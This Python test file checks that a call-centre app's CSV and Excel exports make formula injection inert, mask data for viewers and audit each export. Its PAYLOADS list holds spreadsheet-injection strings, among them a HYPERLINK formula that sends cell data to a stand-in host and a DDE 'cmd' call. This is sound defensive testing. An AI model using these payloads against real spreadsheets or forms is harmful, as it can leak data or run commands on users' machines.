"""Exports of the queue and of call outcomes: CSV and Excel parsed back, formula injection inert, masked, audited."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from callbot import exports
from callbot.models import AuditLog, CallAttempt, Lead, QueueItem, User
from tests.conftest import NOW, make_campaign, make_user
from tests.web.conftest import csrf_token, login

# What an attacker types into a lead form so that a spreadsheet runs it (OWASP "CSV Injection").
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def data(sessions) -> dict[str, int]:  # type: ignore[no-untyped-def]
    """Two campaigns; in the first a queue of leads named with payloads, one call each; one lead in the second."""
    with sessions.begin() as s:
        make_user(s, "admin", "admin@example.vn")
        make_user(s, "viewer", "viewer@example.vn")
        agent = make_user(s, "telesales", "agent@example.vn")
        agent.name = "Phạm Minh Tuấn"
        first, second = make_campaign(s, "Tháng 11"), make_campaign(s, "Tháng 12")
        names = [*PAYLOADS, "Nguyễn Thị Hồng Nhung"]
        for n, name in enumerate(names):
            lead = _lead(s, first.id, name, f"+849123456{n:02d}", score=90 - n)
            _queued(s, lead, agent if n == 0 else None, NOW + dt.timedelta(minutes=n))
            _call(s, lead, NOW + dt.timedelta(minutes=n))
        other = _lead(s, second.id, "Trần Văn Bình", "+84903111222", score=50)
        _queued(s, other, None, NOW + dt.timedelta(days=3))
        _call(s, other, NOW + dt.timedelta(days=3))
        return {"first": first.id, "second": second.id, "rows": len(names)}


def _lead(s, campaign_id: int, name: str, phone: str, score: int) -> Lead:  # type: ignore[no-untyped-def]
    lead = Lead(
        campaign_id=campaign_id,
        name=name,
        phone_raw=phone,
        phone_e164=phone,
        service="khóa học tiếng Anh",
        verdict="ok",
        status="queued",
        score=score,
        tier="hot" if score >= 70 else "warm",
        score_reasons=[{"code": "interested", "points": 40}, {"code": "stale_lead", "points": -5}],
        attempts=1,
    )
    s.add(lead)
    s.flush()
    return lead


def _queued(s, lead: Lead, agent: User | None, at: dt.datetime) -> None:  # type: ignore[no-untyped-def]
    s.add(
        QueueItem(
            lead_id=lead.id,
            campaign_id=lead.campaign_id,
            score=lead.score,
            enqueued_at=at,
            claimed_by_id=agent.id if agent else None,
            disposition="won" if agent else None,
            note="=1+1 gọi lại sau" if agent else None,
        )
    )


def _call(s, lead: Lead, at: dt.datetime) -> None:  # type: ignore[no-untyped-def]
    s.add(
        CallAttempt(
            lead_id=lead.id,
            campaign_id=lead.campaign_id,
            attempt_no=1,
            to_number=lead.phone_e164,
            call_sid=f"CA{lead.id:032x}",
            status="completed",
            live=False,
            answered_by="human",
            outcome="interested",
            identity_confirmed=True,
            interest="yes",
            duration_seconds=42,
            created_at=at,
        )
    )


def download(client, kind: str, fmt: str, **filters: str):  # type: ignore[no-untyped-def]
    """Press the export form's button, as a browser would (token from the export page)."""
    token = csrf_token(client.get("/exports/").get_data(as_text=True))
    return client.post(f"/exports/{kind}.{fmt}", data={"csrf_token": token, **filters})


def read_csv(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    body = response.get_data()
    response.close()  # as the server does once the file is sent (ends the streamed request)
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(response) -> list[list[object]]:  # type: ignore[no-untyped-def]
    body = response.get_data()
    response.close()  # as the server does once the file is sent (deletes the temporary file)
    sheet = load_workbook(io.BytesIO(body)).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value  # never a formula
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def assert_inert(rows: list[list[object]]) -> None:
    for row in rows:
        for value in row:
            assert not (isinstance(value, str) and value.startswith(DANGEROUS)), repr(value)


def test_admin_exports_the_queue_as_csv_with_payloads_made_inert(client, sessions, data):  # type: ignore[no-untyped-def]
    login(client, "admin@example.vn")
    response = download(client, "queue", "csv", campaign=str(data["first"]))
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    header, *rows = read_csv(response)
    assert header == list(exports.QUEUE_COLUMNS)
    assert len(rows) == data["rows"]
    assert_inert(rows)
    by_name = {row[0]: row for row in rows}
    assert set(by_name) == {"'" + p for p in PAYLOADS} | {"Nguyễn Thị Hồng Nhung"}
    first = by_name["'" + PAYLOADS[0]]
    assert first[1] == "'+84912345600"  # a number starting with + is text too, and stays whole
    assert first[2:9] == [
        "khóa học tiếng Anh",
        "90",
        "hot",
        "interested (+40); stale_lead (-5)",
        "won",
        "Phạm Minh Tuấn",
        "Tháng 11",
    ]
    assert first[11] == "'=1+1 gọi lại sau"
    with sessions() as s:
        [entry] = s.scalars(sa.select(AuditLog).where(AuditLog.action == "export"))
        assert entry.user_id == 1
        assert entry.detail["kind"] == "queue" and entry.detail["format"] == "csv" and entry.detail["rows"] == 7
        assert entry.detail["campaign_id"] == data["first"] and entry.detail["masked"] is False


def test_admin_exports_call_outcomes_as_xlsx_written_as_strings(client, sessions, data):  # type: ignore[no-untyped-def]
    login(client, "admin@example.vn")
    response = download(client, "calls", "xlsx")
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    header, *rows = read_xlsx(response)
    assert header == list(exports.CALL_COLUMNS)
    assert len(rows) == data["rows"] + 1
    assert_inert(rows)
    # (XML reads a carriage return back as a line feed: still text behind the quote)
    assert {row[2] for row in rows} >= {"'" + p.replace("\r", "\n") for p in PAYLOADS} | {"Trần Văn Bình"}
    first = rows[0]
    # times in the deployment's zone, as the panel shows them (03:00 UTC is 10:00 in Ho Chi Minh City)
    assert first[1] == "Tháng 11" and first[4] == 1 and first[5] == "2026-11-25 10:00:00"
    assert first[6:12] == ["completed", "interested", "human", "yes", "yes", 42]
    with sessions() as s:
        entry = s.scalar(sa.select(AuditLog).where(AuditLog.action == "export"))
        assert (entry.detail["kind"], entry.detail["format"], entry.detail["rows"]) == ("calls", "xlsx", 8)


def test_exports_are_filtered_by_campaign_and_day(client, data):  # type: ignore[no-untyped-def]
    login(client, "admin@example.vn")
    _, *rows = read_csv(download(client, "calls", "csv", campaign=str(data["second"])))
    assert [row[2] for row in rows] == ["Trần Văn Bình"]
    # days are the deployment's (Ho Chi Minh City): the second campaign's call was on 28/11 at 10:00 there
    _, *rows = read_csv(download(client, "queue", "csv", **{"from": "2026-11-26"}))
    assert [row[0] for row in rows] == ["Trần Văn Bình"]
    _, *rows = read_csv(download(client, "queue", "csv", to="2026-11-25"))
    assert len(rows) == data["rows"]
    _, *rows = read_csv(download(client, "queue", "csv", **{"from": "2026-11-29"}))
    assert rows == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_viewer_gets_masked_names_and_numbers(client, sessions, data, fmt):  # type: ignore[no-untyped-def]
    login(client, "viewer@example.vn")
    response = download(client, "queue", fmt, campaign=str(data["first"]))
    assert response.status_code == 200
    _, *rows = read_csv(response) if fmt == "csv" else read_xlsx(response)
    assert_inert(rows)
    assert "N***** T** H*** N****" in [row[0] for row in rows]
    assert [row[11] for row in rows if row[11]] == ["—"]  # an agent's note may hold a number: hidden
    for row in rows:
        assert "12345" not in str(row[1]) and str(row[1]).endswith("*" * 5 + str(row[1])[-2:])
        assert "Nguyễn" not in str(row[0])
    with sessions() as s:
        assert s.scalar(sa.select(AuditLog).where(AuditLog.action == "export")).detail["masked"] is True


def test_telesales_cannot_export_and_a_missing_token_is_refused(client, app, sessions, data):  # type: ignore[no-untyped-def]
    login(client, "agent@example.vn")
    assert client.get("/exports/").status_code == 403
    token = csrf_token(client.get("/telesales/").get_data(as_text=True))
    assert client.post("/exports/queue.csv", data={"csrf_token": token}).status_code == 403
    admin = app.test_client()
    login(admin, "admin@example.vn")
    assert admin.post("/exports/queue.csv", data={}).status_code == 400  # no CSRF token
    assert admin.get("/exports/queue.csv").status_code == 405  # a download is a form post, never a link
    token = csrf_token(admin.get("/exports/").get_data(as_text=True))
    assert admin.post("/exports/leads.csv", data={"csrf_token": token}).status_code == 404
    with sessions() as s:
        assert s.scalar(sa.select(sa.func.count()).where(AuditLog.action == "export")) == 0


def test_rows_are_read_in_bounded_batches_without_losing_any(session, data):  # type: ignore[no-untyped-def]
    for kind in exports.KINDS:
        query = exports.Query(kind)
        whole = list(exports.rows(session, query))
        assert list(exports.rows(session, query, batch=2)) == whole
        assert len(whole) == exports.count(session, query) == data["rows"] + 1
        assert not session.identity_map  # plain rows: nothing piles up in the session


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84912345678", "'+84912345678"),
        ("-5", "'-5"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Nguyễn = An", "Nguyễn = An"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_inert(value, expected):  # type: ignore[no-untyped-def]
    assert exports.inert(value) == expected
